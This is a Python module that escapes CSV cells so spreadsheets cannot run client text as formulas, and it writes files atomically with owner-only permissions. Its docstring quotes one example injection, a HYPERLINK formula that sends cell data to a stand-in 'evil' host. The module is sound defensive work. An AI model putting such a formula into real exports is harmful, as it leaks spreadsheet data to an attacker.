"""CSV that spreadsheets open as data: client text never becomes a formula.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula (or
DDE command) by Excel, LibreOffice and Google Sheets: a client "name" such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would leak the sheet or run a command on a supervisor's
desktop. Every text cell whose first non-blank character is one of those (or a full-width look-alike)
gets a leading apostrophe, which spreadsheets show as plain text (OWASP "CSV injection"). Numbers stay
numbers; only text is touched. Files are UTF-8 with a byte-order mark so Excel reads Arabic, Cyrillic,
Ge'ez and Chinese correctly, and are written atomically with owner-only permissions.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import tempfile
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from enum import Enum
from pathlib import Path
from typing import IO, Any

FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")  # and full-width = + - @
_LEADING_BLANKS = " \u00a0\u3000\n"


def neutralise(value: Any) -> Any:
    """A cell value safe for a spreadsheet: text that could start a formula gets a leading ``'``.

    None becomes an empty cell; numbers stay numbers; dates become ISO text; enums their value.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return value
    if isinstance(value, Enum):
        value = value.value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    stripped = text.lstrip(_LEADING_BLANKS)
    if (stripped and stripped[0] in FORMULA_TRIGGERS) or (text and text[0] in FORMULA_TRIGGERS):
        return "'" + text
    return text


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` (neutralised) to an open text stream; returns the row count."""
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutralise(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
        n += 1
    return n


def to_csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    buf = io.StringIO()
    write_csv(buf, header, rows)
    return buf.getvalue()


def write_csv_file(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write a CSV file atomically (temp file + fsync + rename), readable by its owner only (0600),
    UTF-8 with a byte-order mark. A failure leaves no file and no temp file behind."""
    path = Path(path).resolve()
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".part", dir=path.parent)
    try:
        os.fchmod(fd, 0o600)
        with os.fdopen(fd, "w", encoding="utf-8-sig", newline="") as fh:
            n = write_csv(fh, header, rows)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp)
        raise
    return n
